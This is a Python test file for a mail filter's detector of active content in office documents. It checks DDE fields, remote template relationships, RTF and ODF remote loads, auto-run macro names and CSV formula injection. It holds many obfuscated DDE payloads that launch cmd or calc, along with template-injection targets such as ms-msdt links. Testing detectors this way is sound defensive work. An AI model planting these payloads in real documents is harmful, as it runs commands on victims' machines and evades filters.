"""What starts a program or loads from elsewhere when a document is opened, however it is written,
and what only looks so."""

from __future__ import annotations

import pytest

from filterd.filters.parts.filter import Parts
from filterd.filters.parts.settings import PartsSettings
from filterd.filters.parts.unpacking import macros, office
from filterd.filters.parts.unpacking.files import File
from filterd.message import Message
from tests.hostile.harmless import related
from tests.hostile.tricks.archives import mailed
from tests.hostile.tricks.documents import office as office_file

pytestmark = pytest.mark.slow

ACTIVE = {"DOC_DDE", "DOC_REMOTE", "DOC_LAUNCH", "DOC_MACRO_AUTO"}


def symbols(name: str, content: bytes) -> set[str]:
    verdict = Parts(PartsSettings()).examine(Message(mailed(name, content), id="X1"))
    return {symbol.name for symbol in verdict.symbols}


def mark(kind: bytes) -> bytes:
    return b'<w:r><w:fldChar w:fldCharType="%s"/></w:r>' % kind


def word_field(*pieces: bytes) -> bytes:
    """A field in pieces; one that begins with `<` is a field of its own."""
    runs = b"".join(
        piece
        if piece.startswith(b"<")
        else b'<w:r><w:instrText xml:space="preserve">%s</w:instrText></w:r>' % piece
        for piece in pieces
    )
    return mark(b"begin") + runs + mark(b"separate") + b"<w:t>x</w:t>" + mark(b"end")


def word(body: bytes) -> bytes:
    return office_file(
        word__document_xml=b'<?xml version="1.0"?><w:document xmlns:w="x">%s</w:document>' % body
    )


DDE_FIELDS = {
    "plain": word_field(b' DDEAUTO c:\\\\windows\\\\cmd.exe "/c calc"'),
    "letters apart": word_field(b"D", b"D", b"E", b'AUTO "cmd" "/c"'),
    "character references": word_field(b"&#68;D&#x45;AUTO cmd x"),
    "CDATA": word_field(b"DD<![CDATA[EAUTO]]> cmd x"),
    "a comment within": word_field(b"DDE<!-- - -->AUTO cmd x"),
    "another program": word_field(b"DDEAUTO excel x y"),
    "another prefix": word_field(b"DDE mshta x").replace(b"w:", b"x:"),
    "no prefix": word_field(b"DDE mshta x").replace(b"w:", b""),
    "codes of letters": word_field(word_field(b" QUOTE 68 68 69 65 85 84 79 32 99 109 100 ")),
    "quoted letters": word_field(word_field(b' QUOTE "DDE" '), b" cmd x"),
    "within another": word_field(b"IF 1 = 1 ", word_field(b"DDEAUTO cmd x")),
    "an attribute in single quotes": b"<w:fldSimple w:instr='DDEAUTO \"cmd\" x'/>",
    "behind one that does not end": mark(b"begin") + word_field(b"DDE cmd x"),
    "behind 500 that do not end": mark(b"begin") * 500 + word_field(b"DDE cmd x"),
}
OTHER_FIELDS = {
    "entry of an index": word_field(b' XE "DDE" '),
    "link": word_field(b' HYPERLINK "https://en.example/wiki/DDE" '),
    "link to a folder": word_field(b' HYPERLINK "c:\\docs\\DDE"'),
    "merged": word_field(b" MERGEFIELD DDE "),
    "date": word_field(b' DATE \\@ "DDE" '),
    "reference": word_field(b" REF DDE \\h "),
    "text about it": b"<w:t>DDEAUTO cmd.exe</w:t>",
    "text in the result": mark(b"begin") + mark(b"separate") + b"<w:t>DDE cmd</w:t>" + mark(b"end"),
    "two fields": word_field(b" PAGE ") + word_field(b' TOC \\o "DDE" '),
    "attribute": b'<w:fldSimple w:instr=" REF DDE "/>',
}


@pytest.mark.parametrize("body", DDE_FIELDS.values(), ids=DDE_FIELDS)
def test_a_field_that_starts_a_program(body: bytes) -> None:
    assert symbols("a.docx", word(body)) == {"DOC_DDE"}


@pytest.mark.parametrize("body", OTHER_FIELDS.values(), ids=OTHER_FIELDS)
def test_a_field_that_has_the_letters_in_it(body: bytes) -> None:
    assert symbols("a.docx", word(body)) == set()


SHEET = b'<?xml version="1.0"?><office:document-content>%s</office:document-content>'


@pytest.mark.parametrize(
    ("name", "file"),
    [
        (
            "a.xlsx",
            office_file(xl__externalLinks__a_xml=b'<x:ddeLink xmlns:x="u" ddeService="cmd"/>'),
        ),
        ("a.ods", office_file(content_xml=SHEET % b'<office:dde-source dde-application="cmd"/>')),
        (
            "a.ods",
            office_file(content_xml=SHEET % b'<t table:formula="of:=DDE(&quot;cmd&quot;;1;2)"/>'),
        ),
    ],
)
def test_a_sheet_that_starts_a_program(name: str, file: bytes) -> None:
    assert symbols(name, file) == {"DOC_DDE"}


@pytest.mark.parametrize(
    "formula", [b"of:=SUM([.A1:.A9])", b"of:=ADDE([.A1])", b"of:=&quot;DDE&quot;"]
)
def test_a_sheet_with_other_formulas(formula: bytes) -> None:
    content = SHEET % (b'<t table:formula="%s"/>' % formula)
    assert symbols("a.ods", office_file(content_xml=content)) == set()


RELATIONSHIP = b'<Relationship Id="a" Type="http://x/attachedTemplate" %s/>'


@pytest.mark.parametrize(
    "element",
    [
        RELATIONSHIP % b'Target = "https://x.example/a.dotm" TargetMode = "External"',
        RELATIONSHIP % b'TargetMode="External" Target\n=\n"https://x.example/a.dotm"',
        RELATIONSHIP % b'Target="https://x.example/a.dotm" TargetMode="Exte&#114;nal"',
        RELATIONSHIP % b'Target="ms-msdt:/id x" TargetMode="External"',
        RELATIONSHIP.replace(b'"a"', b'"Target="')
        % b'Target="https://x.example/a.dotm" TargetMode="External"',
        RELATIONSHIP.replace(b"dTempl", b"d&#x54;empl")
        % b'Target="ftp://x.example/a.dotm" TargetMode="External"',
        RELATIONSHIP.replace(b"attachedTemplate", b"aFChunk")
        % b'Target="https://x.example/a.html" TargetMode="External"',
        RELATIONSHIP % b'Target="\\\\?\\UNC\\x.example\\a\\b.dotm" TargetMode="External"',
    ],
)
def test_a_relationship_however_it_is_written(element: bytes) -> None:
    assert symbols("a.docx", office_file(word__rels__a_rels=element)) == {"DOC_REMOTE"}


@pytest.mark.parametrize(
    ("name", "content"),
    [
        (
            "a.xml",
            b'<?xml version="1.0"?><p:package xmlns:p="http://x/office/2006/xmlPackage">'
            + RELATIONSHIP % b'Target="https://x.example/a.dotm" TargetMode="External"',
        ),
        (
            "a.xml",
            b'<?xml version="1.0"?><w:wordDocument><w:attachedTemplate w:val="http://x.example/a"/>',
        ),
        (
            "a.odt",
            office_file(
                content_xml=SHEET % b'<text:section-source xlink:href="http://x.example/"/>'
            ),
        ),
        (
            "a.odt",
            office_file(
                content_xml=SHEET % b"<draw:floating-frame xlink:href='http://x.example'/>"
            ),
        ),
        (
            "a.odt",
            office_file(content_xml=SHEET % b'<draw:object xlink:href="file://203.0.113.5/a/b"/>'),
        ),
        ("a.rtf", b"{\\rtf1{\\*\\template ftp://x.example/a}}"),
        ("a.rtf", b"{\\rtf1{\\*\\template{http://x.example/a}}}"),
        ("a.rtf", b"{\\rtf1{\\*\\template\r\n\\'68\\'74\\'74\\'70://x.example/a}}"),
        ("a.rtf", b"{\\rtf1{\\*\\template \\\\\\\\x.example\\\\a\\\\b.dotx}}"),
    ],
)
def test_what_other_formats_load_from_elsewhere(name: str, content: bytes) -> None:
    assert symbols(name, content) == {"DOC_REMOTE"}


@pytest.mark.parametrize(
    ("name", "content", "wanted"),
    [
        ("a.rtf", b"{\\rtf1{\\*\\template \\\\\\\\fs01\\\\letters\\\\a.dotx}}", {"DOC_SHARE"}),
        ("a.rtf", b"{\\rtf1{\\*\\template C:\\\\letters\\\\a.dotx}}", set()),
        (
            "a.odt",
            office_file(content_xml=SHEET % b'<draw:object xlink:href="./Object 1"/>'),
            set(),
        ),
        (
            "a.odt",
            office_file(content_xml=SHEET % b'<draw:image xlink:href="https://client.example/"/>'),
            set(),
        ),
        (
            "a.odt",
            office_file(content_xml=SHEET % b'<text:a xlink:href="https://client.example/"/>'),
            set(),
        ),
        (
            "a.odt",
            office_file(
                content_xml=SHEET % b'<text:section-source xlink:href="file:///C:/books/1.odt"/>'
            ),
            set(),
        ),
        (
            "a.docx",
            office_file(**related(b"attachedTemplate", b"\\\\?\\UNC\\fs01\\letters\\a.dotx")),
            {"DOC_SHARE"},
        ),
        ("a.docx", office_file(**related(b"oleObject", b"C:\\books\\1.xlsx!Sheet1!R1C1")), set()),
        ("a.docx", office_file(**related(b"oleObject", b"Book1.xlsx!Sheet1")), set()),
    ],
)
def test_what_lies_in_the_own_house(name: str, content: bytes, wanted: set[str]) -> None:
    assert symbols(name, content) == wanted


LISTENER = (
    b'<script:event-listener script:event-name="%s" '
    b'xlink:href="vnd.sun.star.script:Standard.M.Main"/>'
)


def test_macros_of_open_document() -> None:
    module = b"<script:module>Sub Main</script:module>"
    by_hand = office_file(Basic__S__M_xml=module, content_xml=SHEET % (LISTENER % b"dom:click"))
    assert symbols("a.odt", by_hand) == {"DOC_MACRO"}
    assert symbols("a.doc", by_hand) == {"DOC_MACRO"}
    start = office_file(Basic__S__M_xml=module, content_xml=SHEET % (LISTENER % b"dom:load"))
    assert symbols("a.odt", start) == {"DOC_MACRO", "DOC_MACRO_AUTO"}
    flat = b'<?xml version="1.0"?><office:document><ooo:module><ooo:source-code>Sub Main'
    assert symbols("a.fodt", flat) == {"DOC_MACRO"}
    empty = b'<?xml version="1.0"?><office:document><office:scripts><ooo:libraries/>'
    assert symbols("a.fodt", empty) == set()


@pytest.mark.parametrize(
    ("code", "starts"),
    [
        ("' called by Workbook_Open of the other workbook\nSub Total()", False),
        ('Sub Total()\n  MsgBox "Please run Auto_Open"', False),
        ("Sub Total()\n Events = False ' Workbook_BeforeClose", False),
        ("'Private Sub Workbook_Open()\n'End Sub\nSub Total()", False),
        ("' a line that goes on _\nSub Workbook_Open()\nSub Total()", False),
        ("Rem Sub AutoOpen() was here\nSub Total()", False),
        ("Dim AutoNew As Boolean\nSub Total()", False),
        ("Private Sub UserForm_MouseMove(ByVal Button)", False),
        ("Private Sub UserForm1_Resize()", False),
        ("Private Sub TextBox1_LostFocus()", False),
        ("Sub AutoClose_Helper()", False),
        ("Sub _\n AutoOpen()", True),
        ("Function AutoOpen()", True),
        ("Sub x(): End Sub: Sub AutoOpen()", True),
        ("Public Static Sub autoopen()", True),
        ("Private Sub InkPicture1_Painted(ByVal x)", True),
        ('s = "it\'s"\nSub Document_Open()', True),
        ("Sub Auto_Open() ' x", True),
        ("Remark = 1\nSub AutoOpen()", True),
        ("s = 1 ' a_b\nSub AutoOpen()", True),
    ],
)
@pytest.mark.filterwarnings("ignore::DeprecationWarning")
def test_a_macro_starts_by_the_name_of_its_procedure(code: str, starts: bool) -> None:
    text = f'Attribute VB_Name = "Module1"\n{code}\nEnd Sub\n'
    found = [symbol for symbol, _ in office._what_macros_do(File(("a",), "", text.encode()))]
    assert found == (["DOC_MACRO_AUTO"] if starts else [])


def test_a_module_may_have_the_name() -> None:
    assert macros.procedures('Attribute VB_Name = "AutoOpen"\nSub Main()') == "AutoOpen\nMain"


CALLS = [
    b"=   C    m D   |        '/   c  calc.exe   '   !   A",
    b"\xef\xbc\x9dcmd|'/c calc'!A0",
    b"=cmd.exe|x!A1",
    b'=DDE("cmd";"/C calc";"x")',
]
TEXTS = [
    b"@ann|bob!now",
    b"- Deluxe | sale!now",
    b"-Ann|wow!great",
    b"-item|Sheet1!A1 see",
    b'=HYPERLINK("https://x.example/?a|b!c")',
    b"-address(1)|of!x",
    b"=SUM(A1)",
]


@pytest.mark.parametrize("line", CALLS)
@pytest.mark.parametrize("extension", ["csv", "tab", "prn", "dif", "xls"])
def test_a_table_that_starts_a_program(line: bytes, extension: str) -> None:
    assert symbols(f"a.{extension}", b"name;sum\n" + line + b";2\n") == {"DOC_DDE"}


def test_a_page_that_is_called_a_table() -> None:
    page = b"<html><table><tr><td>=cmd|'/c calc'!A0</td></tr></table></html>"
    assert symbols("a.xls", page) == {"DOC_DDE"}
    assert symbols("a.html", page) == set()


@pytest.mark.parametrize("line", TEXTS)
def test_a_table_with_bars(line: bytes) -> None:
    assert symbols("a.csv", b"name;sum\n" + line + b";2\n") == set()
